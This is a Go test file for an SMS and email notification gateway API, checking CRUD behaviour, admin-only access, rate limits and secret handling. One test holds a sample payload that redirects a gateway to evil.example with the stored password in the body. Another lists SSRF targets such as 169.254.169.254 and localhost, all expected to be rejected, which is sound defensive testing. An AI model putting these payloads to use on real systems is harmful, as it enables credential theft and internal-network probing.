package messages

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"lanyard/internal/notify"
	"lanyard/internal/notify/gateway"
	"lanyard/internal/session"
	"lanyard/internal/table"
)

const (
	password = "t0ken-of-the-account"
	account  = `{"kind":"twilio","name":"Twilio","user":"AC0123456789abcdef0123456789abcdef","password":"` + password + `","long_code":"+12025550142","regions":["US","DE"]}`
	custom   = `{"kind":"http","name":"Vendor","user":"us","password":"` + password + `","http":{"method":"POST","url":"https://api.vendor.example/sms","format":"form",` +
		`"body":"to={{To}}&text={{Text}}","headers":[{"name":"Authorization","value":"Basic {{Basic}}"}],"answers":[{"status":"200","means":"accepted"}],"id_match":"id=(\\d+)"}}`
)

// gateway adds one, and gives its id.
func (w *world) gateway(body string) string {
	w.t.Helper()
	status, got := w.call(http.MethodPost, "/v1/gateways", body)
	if status != http.StatusCreated {
		w.t.Fatalf("%d %v", status, got)
	}
	return got["id"].(string)
}

// stored is a gateway as the store has it.
func (w *world) stored(id string) gateway.Gateway {
	w.t.Helper()
	l, err := gateway.Read(w.t.Context(), w.engine, string(w.set.ID))
	if err != nil {
		w.t.Fatal(err)
	}
	g, err := l.Get(gateway.ID(id))
	if err != nil {
		w.t.Fatal(err)
	}
	return g
}

// fields are the places that a refusal names.
func fields(problem map[string]any) string {
	var out []string
	all, _ := problem["errors"].([]any)
	for _, e := range all {
		out = append(out, strings.TrimPrefix(e.(map[string]any)["location"].(string), "body."))
	}
	return strings.Join(out, " ")
}

func TestGatewaysThatAreAlwaysThere(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	_, list := w.call(http.MethodGet, "/v1/gateways", "")
	items := list["items"].([]any)
	if len(items) != 2 {
		t.Fatalf("%v", list)
	}
	first := items[0].(map[string]any)
	if first["id"] != "ses" || first["built_in"] != true || first["enabled"] != true || first["channel"] != "email" || items[1].(map[string]any)["id"] != "sns" {
		t.Errorf("%v", items)
	}
	if status, got := w.call(http.MethodPatch, "/v1/gateways/sns", `{"enabled":false,"order":7,"regions":["US"]}`); status != http.StatusOK || got["enabled"] != false || got["order"] != 7.0 {
		t.Errorf("%d %v", status, got)
	}
	for _, body := range []string{`{"name":"Mine"}`, `{"sender_id":"Mine"}`, `{"password":"x"}`, `{"user":"x"}`} {
		if status, _ := w.call(http.MethodPatch, "/v1/gateways/ses", body); status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", body, status)
		}
	}
	if status, got := w.call(http.MethodPatch, "/v1/gateways/ses", `{"regions":["US"]}`); status != http.StatusUnprocessableEntity || fields(got) != "regions" {
		t.Errorf("%d %v", status, got)
	}
	if status, _ := w.call(http.MethodDelete, "/v1/gateways/sns", ""); status != http.StatusUnprocessableEntity {
		t.Errorf("deleted: %d", status)
	}
}

func TestGateway(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id := w.gateway(account)
	status, got := w.call(http.MethodGet, "/v1/gateways/"+id, "")
	delete(got, "created_at")
	delete(got, "updated_at")
	want := map[string]any{
		"id": id, "kind": "twilio", "channel": "sms", "built_in": false, "name": "Twilio", "enabled": false, "order": 100.0,
		"regions": []any{"US", "DE"}, "long_code": "+12025550142", "user": "AC0123456789abcdef0123456789abcdef", "password": map[string]any{"set": true},
	}
	if d := cmp.Diff(want, got); status != http.StatusOK || d != "" {
		t.Errorf("%d %s", status, d)
	}
	w.pass(time.Minute)
	if status, got = w.call(http.MethodPatch, "/v1/gateways/"+id, `{"enabled":true,"order":5,"sender_id":"Lanyard"}`); status != http.StatusOK || got["enabled"] != true || got["sender_id"] != "Lanyard" {
		t.Errorf("%d %v", status, got)
	}
	if _, list := w.call(http.MethodGet, "/v1/gateways", ""); list["items"].([]any)[0].(map[string]any)["id"] != id {
		t.Errorf("not the first: %v", list)
	}
	if p, err := w.stored(id).Open(w.keys, string(w.set.ID)); err != nil || p != password {
		t.Errorf("the password after a change of something else: %v", err)
	}
	w.pass(time.Minute)
	if status, _ := w.call(http.MethodDelete, "/v1/gateways/"+id, ""); status != http.StatusNoContent {
		t.Errorf("delete: %d", status)
	}
	for _, method := range []string{http.MethodGet, http.MethodPatch, http.MethodDelete} {
		body := ""
		if method == http.MethodPatch {
			body = `{}`
		}
		if status, _ := w.call(method, "/v1/gateways/"+id, body); status != http.StatusNotFound {
			t.Errorf("%s of what is gone: %d", method, status)
		}
	}
	if d := cmp.Diff([]string{"gateway.delete", "gateway.change", "gateway.create"}, w.acts()[:3]); d != "" {
		t.Error(d)
	}
}

// Threat 12: the password is stored sealed, for its place, and no answer, log line
// or audit entry has it.
func TestPasswordIsWriteOnly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, body := range []string{account, custom} {
		id := w.gateway(body)
		for _, call := range [][3]string{
			{http.MethodGet, "/v1/gateways"},
			{http.MethodGet, "/v1/gateways/" + id},
			{http.MethodPatch, "/v1/gateways/" + id, `{"password":"` + password + `","name":"Again"}`},
			{http.MethodPatch, "/v1/gateways/" + id, `{"password":"` + password + `","order":-1}`},
			{http.MethodPatch, "/v1/gateways/" + id, `{"password":"` + password + strings.Repeat("x", 200) + `"}`},
			{http.MethodPost, "/v1/gateways/" + id + "/test", `{"to":"+12025550143"}`},
		} {
			_, got := w.call(call[0], call[1], call[2])
			if raw, err := json.Marshal(got); err != nil || strings.Contains(string(raw), password) || strings.Contains(string(raw), w.stored(id).Password) {
				t.Errorf("%s %s shows it: %s, %v", call[0], call[1], raw, err)
			}
		}
		if raw, err := json.Marshal(w.stored(id)); err != nil || strings.Contains(string(raw), password) {
			t.Errorf("stored as it is: %s, %v", raw, err)
		}
		if strings.Contains(w.log.String(), password) {
			t.Error("the log has it")
		}
	}
	// taken away: a Twilio account is nothing without its token
	id := w.gateway(account)
	if status, got := w.call(http.MethodPatch, "/v1/gateways/"+id, `{"password":""}`); status != http.StatusUnprocessableEntity || fields(got) != "password" {
		t.Errorf("%d %v", status, got)
	}
	id = w.gateway(`{"kind":"http","name":"V","password":"` + password + `","http":{"method":"GET","url":"https://v.example/?t={{To}}{{Text}}"}}`)
	if status, got := w.call(http.MethodPatch, "/v1/gateways/"+id, `{"password":""}`); status != http.StatusOK || got["password"].(map[string]any)["set"] != false {
		t.Errorf("%d %v", status, got)
	}
}

// Whoever may change a gateway can not have its password sent to a host of their
// own.
func TestPasswordDoesNotMove(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id := w.gateway(custom)
	elsewhere := `"http":{"method":"POST","url":"https://evil.example/sms","format":"text","body":"{{To}} {{Text}} {{Password}}"}`
	status, got := w.call(http.MethodPatch, "/v1/gateways/"+id, `{`+elsewhere+`}`)
	if status != http.StatusUnprocessableEntity || fields(got) != "password" {
		t.Errorf("%d %v", status, got)
	}
	if status, got := w.call(http.MethodPatch, "/v1/gateways/"+id, `{"password":"another",`+elsewhere+`}`); status != http.StatusOK {
		t.Errorf("with a password: %d %v", status, got)
	}
	if p, err := w.stored(id).Open(w.keys, string(w.set.ID)); err != nil || p != "another" {
		t.Errorf("%v", err)
	}
}

func TestWrongGateways(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for body, want := range map[string]string{
		`{"kind":"sns","name":"N"}`: "kind",
		`{"kind":"twilio"}`:         "name user password long_code",
		`{"kind":"twilio","name":"\u202eN","user":"AC1","password":"a\nb","long_code":"1"}`: "name password long_code user",
		`{"kind":"http","name":"N"}`: "http",
		`{"kind":"http","name":"N","http":{"method":"POST","url":"http://127.0.0.1:9001/","format":"json","body":"{}"}}`:                          "http.url http.url http.url",
		`{"kind":"http","name":"N","http":{"method":"POST","url":"https://169.254.169.254/","format":"form","body":"t={{To}}&x={{Text}}"}}`:       "http.url",
		`{"kind":"http","name":"N","http":{"method":"POST","url":"http://localhost:9000/","format":"form","body":"t={{To}}&x={{Text}}"}}`:         "http.url",
		`{"kind":"http","name":"N","http":{"method":"POST","url":"https://v.example/","format":"form","body":"t={{To}}&x={{Text}}&p={{Basic}}"}}`: "password user",
	} {
		status, got := w.call(http.MethodPost, "/v1/gateways", body)
		if status != http.StatusUnprocessableEntity || fields(got) != want {
			t.Errorf("%s: %d at %s, want %s", body, status, fields(got), want)
		}
	}
	for _, body := range []string{`{"kind":"twilio","id":"x"}`, `{"kind":"twilio","channel":"email"}`, `{"kind":"twilio","built_in":true}`} {
		if status, _ := w.call(http.MethodPost, "/v1/gateways", body); status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", body, status)
		}
	}
	if len(w.acts()) != 0 {
		t.Errorf("acts: %v", w.acts())
	}
	for range gateway.Most {
		w.gateway(custom)
	}
	if status, _ := w.call(http.MethodPost, "/v1/gateways", custom); status != http.StatusUnprocessableEntity {
		t.Errorf("one too many: %d", status)
	}
}

func TestGatewaysAreForAdministrators(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id := w.gateway(account)
	ann := w.signIn(w.person(w.set, "ann"))
	_, stranger := w.found("Abroad")
	abroad := w.signIn(stranger)
	for _, call := range [][3]string{
		{http.MethodGet, "/v1/gateways/" + id},
		{http.MethodPatch, "/v1/gateways/" + id, `{"order":1}`},
		{http.MethodDelete, "/v1/gateways/" + id},
		{http.MethodPost, "/v1/gateways/" + id + "/test", `{"to":"+12025550143"}`},
	} {
		if status, _ := w.callAs(ann, call[0], call[1], call[2]); status != http.StatusForbidden {
			t.Errorf("%s %s by a user: %d", call[0], call[1], status)
		}
		if status, _ := w.callAs(abroad, call[0], call[1], call[2]); status != http.StatusNotFound {
			t.Errorf("%s %s from another network: %d", call[0], call[1], status)
		}
	}
	if status, _ := w.callAs(ann, http.MethodPost, "/v1/gateways", account); status != http.StatusForbidden {
		t.Errorf("created by a user: %d", status)
	}
	if g := w.stored(id); g.Order != 100 {
		t.Errorf("changed: %+v", g)
	}
}

func TestTryGateway(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id := w.gateway(account)
	w.pass(time.Minute)
	status, got := w.call(http.MethodPost, "/v1/gateways/"+id+"/test", `{"to":"(202) 555-0143"}`)
	if status != http.StatusAccepted {
		t.Fatalf("%d %v", status, got)
	}
	var m notify.Message
	key := notify.MessageKey(string(w.set.ID), string(w.admin.ID), notify.ID(got["message"].(string)))
	if err := w.engine.Get(t.Context(), key, &m); err != nil {
		t.Fatal(err)
	}
	if m.Template != notify.Test || m.Channel != notify.SMS || m.To != "+12025550143" || m.Via != id || m.State != notify.Queued ||
		m.ValidUntil != table.At(w.now().Add(15*time.Minute)) || m.Data.NetworkName != "Home" || m.Code != nil || m.Link != nil {
		t.Errorf("%+v", m)
	}
	if w.acts()[0] != "gateway.test" {
		t.Errorf("acts: %v", w.acts())
	}
	status, got = w.call(http.MethodPost, "/v1/gateways/ses/test", `{"to":"ada@example.com"}`)
	if status != http.StatusAccepted {
		t.Errorf("by e-mail: %d %v", status, got)
	}
}

func TestTryGatewayWithinTheLimits(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id := w.gateway(account)
	path := "/v1/gateways/" + id + "/test"
	for to, want := range map[string]string{"": "to", "12": "to", "+4915112345678": "to", "+19002345678": "to", "ada@example.com": "to"} {
		if status, got := w.call(http.MethodPost, path, `{"to":"`+to+`"}`); status != http.StatusUnprocessableEntity || fields(got) != want {
			t.Errorf("%q: %d %v", to, status, got)
		}
	}
	if status, _ := w.call(http.MethodPost, "/v1/gateways/ses/test", `{"to":"+12025550143"}`); status != http.StatusUnprocessableEntity {
		t.Errorf("a number by e-mail: %d", status)
	}
	if status, _ := w.call(http.MethodPost, "/v1/gateways/none/test", `{"to":"+12025550143"}`); status != http.StatusNotFound {
		t.Errorf("by no gateway: %d", status)
	}
	if status, _ := w.call(http.MethodPost, path, `{"to":"+12025550143"}`); status != http.StatusAccepted {
		t.Fatal(status)
	}
	if status, _ := w.call(http.MethodPost, path, `{"to":"+12025550143"}`); status != http.StatusTooManyRequests {
		t.Errorf("the same number at once: %d", status)
	}
	w.set.Paused = true
	w.write(table.Put(&w.set))
	if status, _ := w.call(http.MethodPost, path, `{"to":"+12025550144"}`); status != http.StatusServiceUnavailable {
		t.Errorf("while nothing is sent: %d", status)
	}
}

// A program's test is its owner's message.
func TestProgramTriesAGateway(t *testing.T) {
	t.Parallel()
	if got := tester(session.Principal{Token: "t", Owner: "ada"}); got != "ada" {
		t.Error(got)
	}
}
